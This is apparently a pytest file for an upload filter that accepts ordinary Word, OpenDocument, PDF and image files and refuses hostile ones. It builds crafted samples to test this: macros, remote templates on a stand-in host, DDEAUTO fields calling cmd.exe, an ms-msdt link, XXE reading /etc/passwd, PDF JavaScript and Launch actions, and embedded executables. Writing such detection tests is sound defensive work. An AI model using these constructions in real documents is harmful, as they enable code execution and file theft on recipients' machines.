"""Which files are kept is judged by their content: what programs write is taken, what runs, fetches or hides something is not."""

import io
import zipfile

import pytest

from records import office, pdf, pictures
from records.errors import Unacceptable
from records.sniffing import content_type
from tests.records import files
from tests.records.files import EXE, OLE, body, content_types, docx, field, instruction, mark, odt, relation, relations

WORD, ODT, PDF = office.WORD, office.OPEN_DOCUMENT, "application/pdf"
SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
XML = b'\xef\xbb\xbf<?xml version="1.0"?><rsm:CrossIndustryInvoice/>'
TEMPLATE = relation("attachedTemplate", "file:///C:/Sjablonen/Brief.dotm", external=True)
TOC = f"<w:p>{mark('begin')}{instruction('TOC')}{mark('separate')}{field('PAGEREF _Toc1')}{mark('end')}</w:p>"
NAMED = "application/vnd.ms-"

GOOD = {
    "docx": (WORD, docx()),
    "docx of Word on the web": (WORD, docx(part="word/document2.xml")),
    "docx with a picture": (WORD, docx({"word/media/foto..png": files.png()}, [relation("image", "media/foto..png")])),
    "docx with links": (WORD, docx(rels=[relation("hyperlink", "https://stad.example/", True),
                                          relation("hyperlink", "mailto:an@stad.example", True, 2)])),
    "docx with a template on the writer's disk": (WORD, docx({"word/_rels/settings.xml.rels": relations(TEMPLATE)})),
    "docx with page numbers": (WORD, docx(inside=field("PAGE") + field(" HYPERLINK ", '"https://stad.example"'))),
    "docx with a table of contents": (WORD, docx(inside=TOC)),
    "docx with a place to click": (WORD, docx(inside=field("MACROBUTTON NoMacro [Klik hier]"))),
    "docx with a picture of the writer's disk": (WORD, docx(inside=field(r'INCLUDEPICTURE "C:\\1.png" \* MERGEFORMAT \d'))),
    "docx that speaks of DDE": (WORD, docx(inside="<w:p><w:r><w:t>DDEAUTO is een veldcode</w:t></w:r></w:p>")),
    "docx in UTF-16": (WORD, docx({"word/document.xml": body().replace("UTF-8", "UTF-16").encode("utf-16")})),
    "odt": (ODT, odt()),
    "odt with a picture and a link": (
        ODT, odt(inside='<text:p><draw:image xlink:href="Pictures/1.png"/><text:a xlink:href="https://stad.example/">x</text:a>'
                 "</text:p>", parts={"Pictures/1.png": files.png()})),
    "odt with a template on the writer's disk": (ODT, odt(meta='<meta:template xlink:href="file:///C:/brief.ott"/>')),
    "odt with a chart": (ODT, odt({"Object 1/content.xml": "<x/>"}, '<draw:object xlink:href="./Object 1"/>')),
    "pdf": (PDF, files.pdf()),
    "pdf after a byte-order mark": (PDF, files.pdf(before=b"\xef\xbb\xbf")),
    "pdf after a printer's line": (PDF, files.pdf(before=b"\x1b%-12345X@PJL JOB\r\n@PJL SET RESOLUTION=600\r\n")),
    "pdf after blank lines": (PDF, files.pdf(before=b"\r\n" * 500)),
    "pdf with packed objects": (PDF, files.pdf(files.packed_objects(b"<</Type/Font>>"))),
    "pdf with an invoice inside": (PDF, files.pdf(b"<</EmbeddedFiles 5 0 R>>", files.stream(b"/Type/EmbeddedFile", XML))),
    "pdf with a form": (PDF, files.pdf(b"<</AcroForm<</Fields[]>>/OpenAction[3 0 R/Fit]>>")),
    "pdf that speaks of it": (PDF, files.pdf(b"(JavaScript en Launch)")),
    "jpg": ("image/jpeg", files.jpeg()),
    "progressive jpg": ("image/jpeg", files.jpeg(sof=0xC2)),
    "png": ("image/png", files.png()),
    "lossy webp": ("image/webp", files.webp()),
    "lossless webp": ("image/webp", files.webp(chunk=b"VP8L")),
    "extended webp": ("image/webp", files.webp(chunk=b"VP8X")),
    "heic": ("image/heif", files.heic()),
    "heic of tiles": ("image/heif", files.heic((512, 512), (4032, 3024), brand=b"mif1")),
    "the largest photo": ("image/jpeg", files.jpeg(16_320, 12_240)),
    "a panorama": ("image/jpeg", files.jpeg(40_000, 2_000)),
}  # fmt: skip


def macro_part(kind, name="word/settings2.xml", target="settings2.xml", content=b"\0" * 20, relation_kind="x"):
    types = content_types(more=f'<Override PartName="/{name}" ContentType="{kind}"/>')
    return docx({name: content}, [relation(relation_kind, target)], types=types)


def packed_in(filters, kind=b"/ObjStm"):
    """Return packed objects whose stream says in another way that it is one, or how it is packed."""
    return b"<</Type %s/N 1/First 4/Filter%s/Length 9>>\nstream\nx\nendstream" % (kind, filters)


def with_comment(data):
    made = io.BytesIO(data)
    with zipfile.ZipFile(made, "a") as archive:
        archive.comment = b"<script>"
    return made.getvalue()


def twice(data):
    made = io.BytesIO(data)
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(made, "a") as archive:
        archive.writestr("word/document.xml", body())
    return made.getvalue()


def locked(data):
    """Return an archive that says that its first entry needs a password."""
    at = data.index(b"PK\x01\x02")
    return data[:6] + b"\1\0" + data[8 : at + 8] + b"\1\0" + data[at + 10 :]


def attached(target, external=True):
    return docx(rels=[relation("attachedTemplate", target, external)])


def scripts(inside):
    return odt(scripts=f"<office:scripts>{inside}</office:scripts>")


MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
ADD_IN = "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"
LISTENER = '<office:event-listeners><script:event-listener script:event-name="dom:load"/></office:event-listeners>'
SETTINGS = relations(relation("attachedTemplate", "http://kwaad.example/x", True))
ENTITY = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
FRAME = f"<w:p>{mark('begin')}{{}}{mark('end')}</w:p>"
QUOTED = FRAME.format(mark("begin") + instruction("QUOTE 68 68 69") + mark("end") + instruction(' "cmd"'))
PICTURE_BY_FIELD = FRAME.format(instruction("INCLUDEPICTURE ") + FRAME.format(instruction("QUOTE x"))[5:-6])
TWICE = files.packed_objects(b"", b"/Length 1>>\nstream\nstream\n")
HOSTILE = {
    # Word: macros, whatever they are called
    "macros": ("active", docx({"word/vbaProject.bin": OLE})),
    "macros under another name": ("active", docx({"word/media/image1.png": OLE})),
    "macros named by their content type": ("active", macro_part(f"{NAMED}office.vbaProject")),
    "macros named by their relationship": ("active", macro_part("image/png", relation_kind=f"{MICROSOFT}/vbaProject")),
    "a document type with macros": ("active", docx(types=content_types(f"{NAMED}word.document.macroEnabled.main+xml"))),
    "data of macros": ("active", macro_part(f"{NAMED}word.vbaData+xml", content=b"<x/>")),
    "keys bound to macros": ("active", macro_part(f"{NAMED}word.keyMapCustomizations+xml", content=b"<x/>")),
    # Word: something from elsewhere
    "a template from the network": ("external", attached("https://kwaad.example/x.dotm")),
    "a template from a share": ("external", attached(r"\\kwaad\x.dotm")),
    "a template from a share as file": ("external", attached("file://kwaad/x.dotm")),
    "a template from a share in escapes": ("external", attached("file:%2f%2f%2f%2fkwaad/x")),
    "a template that does not say that it is elsewhere": ("external", attached("http://kwaad.example/", external=False)),
    "a template of the settings": ("external", docx({"word/_rels/settings.xml.rels": SETTINGS})),
    "a relationship under another name": ("external", docx({"x.bin": SETTINGS})),
    "a picture from the network": ("external", docx(rels=[relation("image", "http://kwaad.example/1.png", True)])),
    "a picture from a share by a field": ("external", docx(inside=field(r'INCLUDEPICTURE "\\kwaad\1.png"'))),
    "a picture from the network by a field": ("external", docx(inside=field('INCLUDEPICTURE "http://kwaad.example/1"'))),
    "a picture from a share as file": ("external", docx(inside=field('INCLUDEPICTURE "file://kwaad/1.png"'))),
    "a picture from a share behind a switch": ("external", docx(inside=field(r'INCLUDEPICTURE \d "\\\\kwaad\\1.png"'))),
    "a picture from where another field says": ("external", docx(inside=PICTURE_BY_FIELD)),
    "a frame from the network": ("active", docx(rels=[relation("frame", "http://kwaad.example/", True)])),
    "an object from the network": ("active", docx(rels=[relation("oleObject", "mhtml:http://kwaad.example!x", True)])),
    "a document within": ("active", docx(rels=[relation("subDocument", "http://kwaad.example/x.docx", True)])),
    "a page within": ("active", docx({"word/page.html": "<html/>"}, [relation("aFChunk", "page.html")])),
    "a mailing": ("active", docx(rels=[relation("mailMergeSource", "http://kwaad.example/", True)])),
    "an add-in": ("active", docx(rels=[relation(ADD_IN, "x.xml")])),
    "a link that is a script": ("active", docx(rels=[relation("hyperlink", "javascript:alert(1)", True)])),
    "a link that starts a program": ("active", docx(rels=[relation("hyperlink", "ms-msdt:/id PCWDiagnostic", True)])),
    # Word: fields
    "DDEAUTO": ("active", docx(inside=field(r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'))),
    "DDE in small letters": ("active", docx(inside=field("  dde cmd"))),
    "DDE in pieces": ("active", docx(inside=field("DD", "EAU", "TO cmd"))),
    "DDE without a result": ("active", docx(inside=FRAME.format(instruction("DDE cmd")))),
    "DDE in a simple field": ("active", docx(inside='<w:fldSimple w:instr="DDEAUTO cmd"/>')),
    "DDE in a header": ("active", docx({"word/header1.xml": body(field("DDE cmd"))})),
    "DDE within another field": ("active", docx(inside=FRAME.format(instruction("IF 1 = 1 ") + field("DDE cmd")))),
    "DDE made by another field": ("active", docx(inside=QUOTED)),
    "a text from elsewhere by a field": ("active", docx(inside=field('INCLUDETEXT "http://kwaad.example/"'))),
    "a field that links": ("active", docx(inside=field("LINK Excel.Sheet.8"))),
    "DDE in a deletion": ("active", docx(inside=field("DDE cmd").replace("instrText", "delInstrText"))),
    "DDE that nothing ends": ("active", docx(inside=f"<w:p>{mark('begin')}{instruction('DDE cmd')}</w:p>")),
    # Word: files within
    "a program within": ("active", docx({"word/embeddings/x.bin": EXE})),
    "an object within": ("active", docx(rels=[relation("oleObject", "embeddings/oleObject1.bin")])),
    "an object in the text": ("active", docx(inside="<w:p><w:r><w:object/></w:r></w:p>")),
    "a package within": ("active", docx(rels=[relation("package", "embeddings/1.xlsx")])),
    "an archive within": ("active", docx({"word/media/image1.png": files.zipped({"x.exe": EXE})})),
    "a script within": ("active", docx({"word/media/1.png": b"#!/bin/sh\nrm"})),
    "a shortcut within": ("active", docx({"word/media/1.png": b"L\0\0\0\1\x14\2\0" + b"\0" * 60})),
    "ActiveX": ("active", docx({"word/activeX/activeX1.xml": "<x/>"}, [relation("control", "activeX/activeX1.xml")])),
    "ActiveX by its content type": ("active", macro_part(f"{NAMED}office.activeX+xml", content=b"<x/>")),
    # Word: the archive
    "an entity": ("active", docx({"word/document.xml": ENTITY + body().partition("?>")[2]})),
    "an entity from outside": ("active", docx({"word/styles.xml": OUTSIDE + "<x>&a;</x>"})),
    "markup that is broken": ("broken", docx({"word/document.xml": "<w:document>"})),
    "markup in signs that we do not read": ("broken", docx({"word/_rels/settings.xml.rels": SETTINGS.encode("cp037")})),
    "markup in signs that nobody knows": ("broken", docx({"word/styles.xml": '<?xml version="1.0" encoding="UT6-8"?><x/>'})),
    "markup after a sign": ("broken", docx({"word/_rels/settings.xml.rels": b"\1" + SETTINGS.encode()})),
    "more markup than any letter": ("broken", lambda: docx({"word/document.xml": "<x>" + " " * 41_000_000 + "</x>"})),
    "more than a disk holds": ("kind", lambda: docx({"word/media/1.png": b"\0" * 201_000_000})),
    "a spreadsheet": ("kind", docx(types=content_types(SHEET))),
    "a document that is a spreadsheet too": ("kind", macro_part(SHEET, content=b"<x/>")),
    "a document without a beginning": ("kind", docx({"_rels/.rels": relations()})),
    "an archive": ("kind", files.zipped({"bom.txt": "x"})),
    "a document after a program": ("kind", EXE + docx()),
    "a document before a program": ("kind", docx() + EXE),
    "an archive with a word behind it": ("kind", with_comment(docx())),
    "a part that is there twice": ("kind", twice(docx())),
    "a part above its folder": ("kind", docx({"../x.xml": "<x/>"})),
    "half a document": ("broken", docx()[:400]),
    "a document behind a password": ("locked", locked(docx())),
    "an older document": ("kind", OLE),
    # OpenDocument
    "macros of LibreOffice": ("active", odt({"Basic/Standard/Module1.xml": "<x/>"})),
    "macros in other letters": ("active", odt({"basic/Standard/Module1.xml": "<x/>"})),
    "scripts in Python": ("active", odt({"Scripts/python/x.py": "import os"})),
    "macros in the text": ("active", scripts("<office:script><ooo:library-embedded/></office:script>")),
    "a macro at opening": ("active", scripts(LISTENER)),
    "a macro behind a link": ("active", odt(inside='<text:a xlink:href="vnd.sun.star.script:x.py$y?language=Python">x</text:a>')),
    "a macro in a field": ("active", odt(inside="<text:execute-macro/>")),
    "DDE of LibreOffice": ("active", odt(inside="<text:dde-connection-decl/>")),
    "an object of Windows": ("active", odt({"Object 1": OLE}, '<draw:object-ole xlink:href="./Object 1"/>')),
    "a program in the pictures": ("active", odt({"Pictures/1.png": EXE})),
    "a picture of the network": ("external", odt(inside='<draw:image xlink:href="https://kwaad.example/1.png"/>')),
    "a document of the network": ("external", odt(inside='<draw:object xlink:href="//kwaad/x.ods"/>')),
    "a template of the network": ("external", odt(meta='<meta:template xlink:href="https://kwaad.example/x.ott"/>')),
    "a text of the network": ("active", odt(inside='<text:section-source xlink:href="http://kwaad.example/"/>')),
    "a page in a frame": ("active", odt(inside='<draw:floating-frame xlink:href="http://kwaad.example/"/>')),
    "an OpenDocument behind a password": ("locked", odt(manifest="<manifest:encryption-data/>")),
    "a spreadsheet of LibreOffice": ("kind", odt({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"})),
    # PDF
    "a script": ("active", files.pdf(SCRIPT)),
    "a script in escapes": ("active", files.pdf(b"<</S/J#61v#61Script/JS(x)>>")),
    "a script in packed objects": ("active", files.pdf(files.packed_objects(SCRIPT))),
    "objects packed in another way": ("active", files.pdf(files.packed_objects(b"x", b"/DecodeParms<</Predictor 12>>"))),
    "objects packed twice": ("active", files.pdf(packed_in(b"[/FlateDecode/FlateDecode]"))),
    "objects packed in letters": ("active", files.pdf(packed_in(b"[/ASCII85Decode/FlateDecode]"))),
    "packed objects behind a word": ("active", files.pdf(packed_in(b"/FlateDecode/X(obj)"))),
    "packed objects behind a comment": ("active", files.pdf(packed_in(b"/FlateDecode%obj<<\n"))),
    "packed objects far from their name": ("active", files.pdf(packed_in(b"/FlateDecode/X(" + b"x" * 9000 + b")"))),
    "packed objects behind others counted twice": ("active", files.pdf(TWICE, packed_in(b"/FlateDecode/X(obj)"))),
    "packed objects whose kind stands elsewhere": ("active", files.pdf(b"/ObjStm", packed_in(b"/FlateDecode", b"4 0 R"))),
    "a program to start": ("active", files.pdf(b"<</S/Launch/F(cmd.exe)>>")),
    "another document from a share": ("active", files.pdf(rb"<</OpenAction<</S/GoToR/F(\\\\kwaad\\x.pdf)/D[0/Fit]>>>>")),
    "a document inside to open": ("active", files.pdf(b"<</S/GoToE/T<</R/C/N(x)>>>>")),
    "a film": ("active", files.pdf(b"<</Subtype/RichMedia>>")),
    "a program inside": ("active", files.pdf(b"<</EmbeddedFiles 5 0 R>>", files.stream(b"/Type/EmbeddedFile", EXE))),
    "a program inside, not packed": ("active", files.pdf(files.stream(b"/Type/EmbeddedFile", EXE, packed=False))),
    "a file inside that says no kind": ("active", files.pdf(b"<</EmbeddedFiles 5 0 R>>", files.stream(b"", EXE))),
    "objects that unpack to more than any": ("broken", lambda: files.pdf(files.packed_objects(b" " * 34_000_000))),
    "a page before the mark": ("kind", b"<html>%PDF-1.7"),
    "a printer's lines without an end": ("kind", b"@PJL   " * 140 + b"<%PDF-1.7"),
    "a program before the mark": ("kind", files.pdf(before=EXE)),
    "a mark too far away": ("kind", files.pdf(before=b"\n" * 1024)),
    "a PDF that is an archive": ("kind", files.pdf() + files.zipped({"x.exe": EXE})),
    # pictures
    "sound as webp": ("kind", b"RIFF\x24\0\0\0WAVEfmt " + b"\0" * 30),
    "film as webp": ("kind", b"RIFF\x24\0\0\0AVI LIST" + b"\0" * 30),
    "a webp without a picture": ("broken", b"RIFF\x10\0\0\0WEBPEXIF" + b"\0" * 30),
    "60000 x 60000": ("pixels", files.png(60_000, 60_000)),
    "60000 x 60000 of a camera": ("pixels", files.jpeg(60_000, 60_000)),
    "a heic of 60000 x 60000": ("pixels", files.heic((512, 512), (60_000, 60_000))),
    "one pixel too many": ("pixels", files.png(15_812, 15_812)),
    "a strip without end": ("pixels", files.png(40_001, 1)),
    "a picture of nothing": ("broken", files.png(0, 6)),
    "a png without a size": ("broken", b"\x89PNG\r\n\x1a\n" + b"\0" * 60),
    "half a png": ("broken", files.png()[:12]),
    "a jpg without a frame": ("broken", b"\xff\xd8\xff\xd9"),
    "a heic without a picture": ("broken", b"\0\0\0\x18ftypmif1\0\0\0\0mif1heic"),
    "a film that begins as heic": ("kind", b"\0\0\0\x18ftypisom\0\0\0\0isommp42"),
    "a picture that is an archive": ("kind", files.jpeg() + files.zipped({"META-INF/MANIFEST.MF": "x"})),
    "a picture that is a PDF": ("kind", files.jpeg(comment=b"%PDF-1.4")),
    "a picture that is a page": ("kind", files.jpeg(comment=b"<SCRIPT>alert(1)</script>")),
    "a drawing": ("kind", b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'),
    "a gif": ("kind", b"GIF89a\1\0\1\0\0\0\0;"),
    "nothing": ("kind", b""),
}  # fmt: skip


@pytest.mark.parametrize("what", GOOD)
def test_what_a_program_writes_is_taken_for_what_it_is(what):
    kind, data = GOOD[what]
    assert content_type(io.BytesIO(data)) == kind


@pytest.mark.parametrize("what", HOSTILE)
def test_what_runs_fetches_or_hides_something_is_refused_with_the_reason(what):
    reason, data = HOSTILE[what]
    file = io.BytesIO(data() if callable(data) else data)
    with pytest.raises(Unacceptable) as refused:
        content_type(file)
    assert refused.value.reason == reason
    assert file.tell() == 0


def test_the_size_that_is_refused_is_told():
    with pytest.raises(Unacceptable) as refused:
        content_type(io.BytesIO(files.png(60_000, 60_000)))
    assert refused.value.detail == "60000 × 60000"


def test_the_limits_let_the_last_pass():
    side = int(pictures.MAX_PIXELS**0.5)
    assert content_type(io.BytesIO(files.png(side, side))) == "image/png"
    assert content_type(io.BytesIO(files.png(pictures.MAX_SIDE, 1))) == "image/png"
    left = office.MAX_MARKUP - 5_000
    assert content_type(io.BytesIO(docx({"word/document.xml": "<x>" + " " * left + "</x>"}))) == WORD
    assert content_type(io.BytesIO(files.pdf(files.packed_objects(b" " * (pdf.MAX_UNPACKED - 5))))) == PDF
    assert content_type(io.BytesIO(files.pdf(before=b"\n" * 1019))) == PDF


def test_pictures_as_a_library_writes_them_are_taken():
    from PIL import Image

    picture = Image.new("RGB", (30, 20), "navy")
    for name, kind in (("JPEG", "image/jpeg"), ("PNG", "image/png"), ("WEBP", "image/webp")):
        made = io.BytesIO()
        picture.save(made, name)
        assert content_type(made) == kind
        assert pictures.READERS[kind](made) == [(30, 20)]


@pytest.mark.parametrize("document", [docx(), odt()], ids=["docx", "odt"])
def test_a_document_of_which_any_byte_arrived_wrong_is_judged_and_no_fault_of_ours(document):
    taken = 0
    for place in range(4, len(document), 3):
        changed = bytearray(document)
        changed[place] ^= 0x55
        try:
            taken += content_type(io.BytesIO(changed)) in (WORD, ODT)
        except Unacceptable:
            continue
    assert taken < len(document) / 6  # such as a date in the archive, which says nothing
